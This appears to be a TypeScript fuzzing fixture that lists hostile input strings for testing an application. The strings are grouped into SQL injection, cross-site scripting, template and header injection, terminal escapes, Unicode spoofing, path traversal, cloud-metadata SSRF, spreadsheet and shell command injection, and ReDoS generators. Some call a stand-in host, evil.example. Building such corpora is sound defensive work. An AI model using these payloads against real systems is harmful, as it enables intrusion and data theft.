/**
 * The hostile texts: one list, for the attacks and for the fuzzing. What is told of each is how it would hurt if it were believed
 * where it lands. Grouped by whom it is meant for.
 */

const esc = '\u001b';
const endOfLine = '\r\n';

/** Meant for the database. */
const sql = [
  `'; drop table app.ideas; --`,
  `' or '1'='1`,
  `") ; update app.ideas set status = 'published' --`,
  `$$; select pg_sleep(9); $$`,
  `\\'; select 1 --`,
  `E'\\x27 || (select current_user) || '`,
  '{a,b}',
  '{"a","b',
  '(1,2),(3,4)',
  'NULL',
  '\\N',
  '%_%_%_%',
  'a,b.eq.c)',
  '*,contacts(*)',
];

/** Meant for a browser: text that wants to be markup, where it is text, a title, an attribute or a comment. */
const html = [
  '<script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  `" autofocus onfocus="alert(1)`,
  `' onmouseover='alert(1)`,
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '<!-- --!> <img src=x onerror=alert(1)> -->',
  ']]><script>alert(1)</script>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<style>*{display:none}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<form action=//evil.example><input name=email>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;',
  '\u00bcscript\u00bealert(1)\u00bc/script\u00be',
  '＜script＞alert(1)＜/script＞',
];

/** Meant for whatever fills in a template, ours too. */
const template = [
  '{{7*7}}',
  `\${7*7}`,
  '<%= 7 %>',
  '#{7*7}',
  "$& $1 $` $' $$",
  '{max} {min} {minutes}',
  '%s%n%x%d',
  '{0} {constructor}',
];

/** Meant for mail and for headers: a line end, and what would stand on the next line. */
const header = [
  `a${endOfLine}Set-Cookie: stolen=1`,
  'a\nBcc: everyone@evil.example',
  'a\rLocation: //evil.example',
  `a${endOfLine}${endOfLine}<script>alert(1)</script>`,
  'a%0d%0aSet-Cookie:%20stolen=1',
  'a\u560a\u560dSet-Cookie: stolen=1',
  'a\u2028b\u2029c\u0085d\u000be\u000cf',
  'a,b@c.example',
  '"a b"@c.example',
  '<a@b.example>',
];

/** Meant for whoever reads a log or a terminal. */
const log = [
  `x\n{"event":"submission","outcome":"stored"}`,
  `${esc}[2J${esc}]0;owned\u0007${esc}[31m`,
  '\u009b31mred\u009b0m',
  `${esc}]8;;https://evil.example\u0007click${esc}]8;;\u0007`,
  '\b\b\b\b\bgone',
];

/** Meant for the eye, or for whoever counts letters. */
const unicode = [
  'abc\u202etxt.exe',
  '\u2066a\u2067b\u2068c\u2069\u202a\u202b\u202d\u200e\u200f\u061c',
  'k\u043emmun \u0435xempel',
  '\ud800',
  'a\udc00b\ud83d',
  '\u0000',
  'a\u0000b\u0001c\u007fd\u0080e',
  '\u200b\u200c\u200d\u2060\ufeff',
  'a\u00ad\u034f\u115f\u3164\uffa0b',
  `Z${'\u0301\u0327\u0489'.repeat(200)}`,
  '\ufdfd\u1242b\ufb2c\u1e9b\u0323',
  '\ufffe\uffff\u{1fffe}\u{10ffff}',
  '\u{e0001}\u{e0041}\u{e007f}',
  '👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿\ufe0f\u20e3',
  'ß\u0130\u0131\u017f\u212a',
  '\u180e\u2800\u3000',
];

/** Meant for a file system, for another server, for a spreadsheet, for a language's own names and numbers. */
const machine = [
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
  '/mitt/../../api/ideas',
  `=cmd|' /C calc'!A0`,
  '@SUM(1+1)*cmd',
  '-2+3',
  '; cat /etc/passwd',
  '`id`',
  '$(id)',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'null',
  'undefined',
  'true',
  'NaN',
  '1e999',
  '-0',
  '9007199254740993',
  '[object Object]',
  '0x10',
];

export const hostileTexts = { sql, html, template, header, log, unicode, machine } as const;
export type Family = keyof typeof hostileTexts;

/** All of them. */
export const everyHostileText: readonly string[] = Object.values(hostileTexts).flat();

/** Texts that make a careless regular expression or loop go over them again and again, as long as is wished. */
export const costlyTexts: Readonly<Record<string, (length: number) => string>> = {
  'blanks in the middle': (length) => `x${' '.repeat(length)}x`,
  'blanks that cannot be seen in the middle': (length) => `x${'\u200b'.repeat(length)}x`,
  'line ends in the middle': (length) => `x${'\r\n'.repeat(length / 2)}x`,
  'one letter': (length) => 'a'.repeat(length),
  'digits and no end': (length) => `${'1'.repeat(length)}x`,
  'marks on one letter': (length) => `a${'\u0301'.repeat(length)}`,
  'marks in the wrong order': (length) => `a${'\u0301\u0327\u0316'.repeat(length / 3)}`,
  'at signs': (length) => '@'.repeat(length),
  'dots after an at sign': (length) => `a@${'a.'.repeat(length / 2)}`,
  'hyphens after an at sign': (length) => `a@a${'-'.repeat(length)}`,
  'letters that IDNA must look at': (length) => `a@${'ö'.repeat(length)}`,
  'what looks like a reference': (length) => `K3${'-'.repeat(length)}7M2Q`,
  'emoji and joiners': (length) => '👩\u200d'.repeat(length / 3),
  'lone surrogates': (length) => '\ud800'.repeat(length),
};
